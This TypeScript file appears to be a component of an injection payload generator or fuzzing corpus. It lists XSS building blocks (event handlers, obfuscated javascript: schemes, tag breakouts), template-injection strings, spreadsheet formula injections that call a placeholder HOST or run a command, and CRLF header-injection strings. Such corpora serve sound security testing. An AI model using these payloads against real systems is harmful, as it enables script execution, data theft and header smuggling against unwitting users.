/** Combined in payloads.ts, which also explains RUN and HOST. */
export const handlers = (
  'onload onerror onclick onmouseover onfocus onblur oninput onchange onsubmit onkeydown onpointerenter ' +
  'onwheel ontoggle onanimationstart onanimationend onscroll ontransitionend onpageshow onhashchange onmessage ' +
  'onbeforeprint oncopy onpaste oncontextmenu onbeforetoggle onscrollend onbeforeinput onsecuritypolicyviolation'
).split(' ');
export const handlerTags = 'img svg body video audio details input iframe marquee object'.split(' ');
export const spaces = ['/', '\t', '\n', '\f', '\r', '//', ' / '];
export const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  ' javascript:',
  '\u0001javascript:',
  'javascript&colon;',
  '&#106;avascript:',
  '&#x6A;avascript:',
  '&#0000106avascript:',
  'java&Tab;script:',
  'java&NewLine;script:',
  'javascript:/*--></title></style>*/',
  'javascript://%0a',
  'javascript:javascript:',
  'vbscript:',
  'livescript:',
  'view-source:javascript:',
  'feed:javascript:',
  'jar:javascript:',
];
export const dataUrls = (
  'data:text/html, data:text/html;charset=utf-8, DATA:text/html, data:image/svg+xml, ' +
  'data:application/xhtml+xml, data:text/xml, data:, data:;,'
).split(' ');
export const linkAttributes =
  'a href|area href|form action|button formaction|iframe src|embed src|object data'.split('|');
export const fetchAttributes = (
  'img src|img srcset|image href|source srcset|video src|video poster|audio src|input type=image src|' +
  'table background|td background|body background|link rel=stylesheet href|link rel=prefetch href|' +
  'link rel=preconnect href|link rel=import href|track src|base href|use href|feImage href|bgsound src|' +
  'frame src|embed src|object data|script src|q cite'
).split('|');
export const closers = (
  '" \' ` "> \'> "/> --> */ ]]> </title> </textarea> </style> </script> </noscript> </template> </select> ' +
  '</option> </iframe> </xmp> </svg> </math> </pre>'
).split(' ');
export const rawTextTags = 'noscript noembed noframes xmp textarea title style iframe template'.split(' ');
export const invisibleCharacters = [...'\u00ad\u200b\u200d\u2060\u2028\u2029\u202e\u2066\ufeff\u180e'];

export const templateTexts = [
  '{{RUN}}',
  "{{constructor.constructor('RUN')()}}",
  `\${RUN}`,
  '#{RUN}',
  '<%= RUN %>',
  '<?php RUN ?>',
  '{%RUN%}',
  '[[RUN]]',
  '{RUN}',
  '@(RUN)',
  '*{RUN}',
  '<x v-html=RUN>',
  '<x ng-app ng-init=RUN>',
  '<x x-init=RUN>',
  '<x-y is=script>RUN</x-y>',
  '<slot onslotchange=RUN><p></p></slot>',
  '__proto__',
  'constructor',
  "$&$1$`$'",
  '__CONFIG__',
  '%s%n%x',
  '$(RUN)',
  '`RUN`',
  ';RUN;',
  "';RUN;//",
  '";RUN;//',
  '\\";RUN;//',
];
export const formulaTexts = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://HOST/","a")',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '=IMPORTXML("http://HOST/","//a")',
  '%0A=1+1',
  ';=1+1',
  '"=1+1',
  "'=1+1",
  '|calc',
  '=WEBSERVICE("http://HOST/")',
];
export const brokenLines = [
  'a\r\nBcc: b@HOST',
  'a\nSet-Cookie: a=b',
  'a\r\n\r\n<script>RUN</script>',
  'a\u0085b',
  'a\vb\fc',
  'a%0d%0aLocation: http://HOST',
  'a\u2028<script>RUN</script>',
  'a\r\rb',
  '\n\n\n',
  'a\n.\nQUIT',
];
